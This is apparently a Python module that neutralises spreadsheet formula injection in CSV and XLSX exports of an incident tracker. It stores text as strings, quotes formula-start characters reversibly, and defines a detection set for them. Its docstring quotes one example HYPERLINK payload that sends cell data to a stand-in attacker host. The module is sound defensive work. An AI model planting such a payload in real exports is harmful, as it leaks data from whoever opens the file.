"""Cells for spreadsheets and CSV: data, never formulas.

Incident titles, post texts and authors come from anonymous posts. A text that
starts with ``=``, ``+``, ``-``, ``@`` (or a tab or line break before one of
them) is read as a formula by Excel and LibreOffice when the file is opened:
``=HYPERLINK("http://evil.example/?"&A1, "…")`` would send data away or run
DDE. This module is the one place that writes such cells; every XLSX and CSV
export goes through it (the monthly report, ``cur export incidents``).

- XLSX: the cell is stored as a string (``t="s"``/inline string), whatever it
  starts with, so the text is kept exactly and is never evaluated.
- CSV has no types: a text that would start a formula gets a leading ``'``
  (the OWASP "CSV injection" advice); Excel shows it as text, the apostrophe
  is visible in a text editor. Numbers stay numbers.

The CSV quoting is reversible, so ``cur export posts --format csv`` reads back
into ``cur import`` unchanged: a text is quoted when it starts with any run of
apostrophes (possibly none) followed by a formula start, and :func:`csv_uncell`
drops exactly one apostrophe from such a text. ``"'=x"`` (a text that really
starts with an apostrophe) is written ``"''=x"`` and read back as ``"'=x"``.
"""

from __future__ import annotations

import csv
import json
from typing import IO, Any, Iterable

#: first characters that make a spreadsheet cell a formula (ASCII and the full-width forms some locales accept)
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def starts_formula(text: str) -> bool:
    """True for a text a spreadsheet would evaluate (also after leading spaces, which some readers skip)."""
    if not text:
        return False
    if text[0] in FORMULA_START:
        return True
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and stripped[0] in FORMULA_START


def _needs_quote(text: str) -> bool:
    """A formula start, or apostrophes followed by one (so that quoting stays reversible)."""
    return starts_formula(text.lstrip("'"))


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: lists and dicts as JSON, texts that would start a formula quoted with ``'``."""
    if isinstance(value, (list, dict)):
        value = json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def csv_uncell(text: str) -> str:
    """Undo :func:`csv_cell`'s quoting: ``csv_uncell(csv_cell(t)) == t`` for every text ``t``.

    Only a cell that :func:`csv_cell` would have produced by quoting (an apostrophe, then
    apostrophes and a formula start) loses its first apostrophe; every other text is kept.
    """
    if text.startswith("'") and _needs_quote(text):
        return text[1:]
    return text


def write_csv(out: IO[str], rows: Iterable[dict[str, Any]], fields: list[str]) -> int:
    """Write ``rows`` (dicts) as CSV with a header of ``fields``; returns the number of rows."""
    w = csv.DictWriter(out, fieldnames=fields, extrasaction="ignore")
    w.writeheader()
    n = 0
    for row in rows:
        w.writerow({k: csv_cell(v) for k, v in row.items()})
        n += 1
    return n


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` (an openpyxl worksheet) with every text stored as text, never as a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"
